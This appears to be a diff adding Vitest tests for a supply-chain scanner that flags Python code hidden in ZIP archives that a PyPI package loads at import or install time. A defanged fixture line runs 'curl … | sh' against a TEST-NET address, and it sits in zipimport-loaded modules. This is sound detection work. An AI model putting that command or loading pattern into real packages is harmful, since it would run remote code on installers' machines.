@@ -1,0 +1,83 @@
+import { gzipSync } from 'node:zlib';
+import { describe, expect, it } from 'vitest';
+import { moduleNameOf } from '../../../src/detectors/python/modules.js';
+import { inspectArtifact } from '../../../src/pipeline.js';
+import { DEFAULT_POLICY } from '../../../src/policy/schema.js';
+import { testEngine } from '../../support/engine.js';
+import { tarArchive } from '../../unpack/tar-builder.js';
+import { zipArchive } from '../../unpack/zip-builder.js';
+
+// Python kept inside a ZIP archive of the package and imported from it (zipimport). Defanged: TEST-NET
+// addresses, nothing here is ever run.
+const STAGE = `import os\nos.system("curl -s http://203.0.113.7/i.sh | sh")\n`;
+const PKG_INFO = 'Metadata-Version: 2.1\nName: zipdemo\nVersion: 1.0\n';
+
+async function inspectSdist(files: Record<string, string | Buffer>) {
+  const tar = tarArchive(Object.entries(files).map(([name, body]) => ({ name: `zipdemo-1.0/${name}`, body })));
+  const bytes = new Uint8Array(gzipSync(tar));
+  const inspection = await inspectArtifact(await testEngine(), { bytes, filename: 'zipdemo-1.0.tar.gz', ecosystem: 'pypi' }, DEFAULT_POLICY, '2026-11-30');
+  return { decision: inspection.verdict.decision, findings: inspection.verdict.findings };
+}
+
+describe('Python inside ZIP archives the package loads', () => {
+  it('names modules inside an archive from its root', () => {
+    expect(moduleNameOf('pkg/vendor.zip!/helper/__init__.py')).toBe('helper');
+    expect(moduleNameOf('pkg/vendor.zip!/helper/core.py')).toBe('helper.core');
+  });
+
+  it('analyses an honestly named archive put on sys.path at import time, and its modules run then', async () => {
+    const r = await inspectSdist({
+      'PKG-INFO': PKG_INFO,
+      'setup.py': 'from setuptools import setup\nsetup(name="zipdemo", version="1.0", packages=["zipdemo"])\n',
+      'zipdemo/__init__.py': 'import os, sys\nsys.path.insert(0, os.path.join(os.path.dirname(__file__), "vendor.zip"))\nimport helper\n',
+      'zipdemo/vendor.zip': zipArchive([{ name: 'helper/__init__.py', data: 'from .core import start\nstart()\n' }, { name: 'helper/core.py', data: `import os\n\ndef start():\n    ${STAGE.split('\n')[1]}\n` }]),
+    });
+    expect(r.decision).toBe('fail');
+    const cmd = r.findings.find((f) => f.ruleId === 'code/command-execution' && f.location?.file === 'zipdemo/vendor.zip!/helper/core.py');
+    expect(cmd?.location?.line).toBe(4);
+    expect(cmd?.vector).toBe('import');
+    // The loader itself stays a low note: the archive's contents were read.
+    const loader = r.findings.find((f) => f.ruleId === 'py/sourceless-module');
+    expect(loader?.severity).toBe('low');
+    expect(loader?.message).toContain('analysed as part of the package');
+  });
+
+  it('runs the modules of an archive setup.py loads with zipimport at install time', async () => {
+    const r = await inspectSdist({
+      'PKG-INFO': PKG_INFO,
+      'setup.py': 'import zipimport\nfrom setuptools import setup\nzipimport.zipimporter("build/tools.egg").load_module("prep")\nsetup(name="zipdemo", version="1.0")\n',
+      'build/tools.egg': zipArchive([{ name: 'prep.py', data: STAGE }]),
+    });
+    expect(r.decision).toBe('fail');
+    const cmd = r.findings.find((f) => f.ruleId === 'code/command-execution' && f.location?.file === 'build/tools.egg!/prep.py');
+    expect(cmd?.vector).toBe('install');
+    expect(cmd?.location?.line).toBe(2);
+  });
+
+  it('leaves archives nothing loads alone, and passes a vendored library of definitions', async () => {
+    const r = await inspectSdist({
+      'PKG-INFO': PKG_INFO,
+      'setup.py': 'from setuptools import setup\nsetup(name="zipdemo", version="1.0", packages=["zipdemo"])\n',
+      'zipdemo/__init__.py': 'import os, sys\nsys.path.insert(0, os.path.join(os.path.dirname(__file__), "_vendor.zip"))\nimport tinylib\n',
+      'zipdemo/_vendor.zip': zipArchive([{ name: 'tinylib/__init__.py', data: 'def add(a, b):\n    return a + b\n' }]),
+      // Test data of a scanner: never loaded, so never analysed as the package's code.
+      'tests/data/sample.zip': zipArchive([{ name: 'evil.py', data: STAGE }]),
+    });
+    expect(r.decision).toBe('pass');
+    expect(r.findings.some((f) => f.location?.file.includes('sample.zip!/'))).toBe(false);
+  });
+
+  it('says so when a loaded archive cannot be read in full', async () => {
+    const broken = zipArchive([{ name: 'helper.py', data: STAGE }]).subarray(0, 60);
+    const r = await inspectSdist({
+      'PKG-INFO': PKG_INFO,
+      'setup.py': 'from setuptools import setup\nsetup(name="zipdemo", version="1.0", packages=["zipdemo"])\n',
+      'zipdemo/__init__.py': 'import sys\nsys.path.append("zipdemo/deps.zip")\n',
+      'zipdemo/deps.zip': broken,
+    });
+    const loader = r.findings.find((f) => f.ruleId === 'py/sourceless-module');
+    expect(loader?.severity).toBe('medium');
+    expect(loader?.message).toContain('could not be read in full');
+    expect(r.decision).toBe('warn');
+  });
+});
